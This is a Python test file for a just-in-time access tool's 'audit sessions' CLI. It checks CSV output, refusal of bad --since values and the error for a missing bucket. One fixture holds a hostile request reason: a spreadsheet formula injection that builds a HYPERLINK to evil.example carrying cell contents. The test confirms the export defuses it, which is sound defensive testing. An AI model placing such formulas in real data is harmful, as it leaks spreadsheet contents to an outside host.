"""`jit-access audit sessions` against a moto audit bucket: what an auditor types and reads."""

from __future__ import annotations

import csv
import io

import pytest

from jit_access.cli import main
from jit_access.edges.store import RequestStore
from jit_access.service import AccessService

from ..scenario import RID, make_service, subject


@pytest.fixture
def recorded(s3, bucket) -> AccessService:
    """A request granted and revoked, its events written to the bucket by the real store."""
    service = make_service()
    service.store = RequestStore(s3=s3, bucket=bucket)
    hostile = subject().model_copy(update={"reason": '=HYPERLINK("http://evil.example/?"&A1,"INC-1")\x00'})
    service.submit(RID, hostile)
    service.click(request_id=RID, action="approve", actor_slack_id="UBOB", channel_id="C")
    service.revoke(RID, how="schedule")
    return service


def test_csv_shows_a_reason_a_spreadsheet_will_not_run(recorded, bucket, capsys):
    # The events are dated 2026-12-04 (the scenario clock); a long window reaches them.
    assert main(["audit", "sessions", "--bucket", bucket, "--since", "3650d", "--format", "csv"]) == 0

    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["requester"] == "alice@example.com" and row["approved_by"] == "bob@example.com"
    assert row["reason"].startswith("'=HYPERLINK(") and "\x00" not in row["reason"]


@pytest.mark.parametrize("since", ["abc", "-1d", "30", "100000d", "99999999999999999999d"])
def test_a_window_that_is_not_a_number_of_days_is_refused_in_words(since, bucket, capsys):
    assert main(["audit", "sessions", "--bucket", bucket, f"--since={since}"]) == 2
    assert "give a number of days" in capsys.readouterr().err


def test_a_missing_bucket_is_one_clear_line_not_a_traceback(aws, capsys):
    assert main(["audit", "sessions", "--bucket", "no-such-audit-bucket"]) == 1
    err = capsys.readouterr().err
    assert "cannot read the audit bucket 'no-such-audit-bucket'" in err and "Traceback" not in err
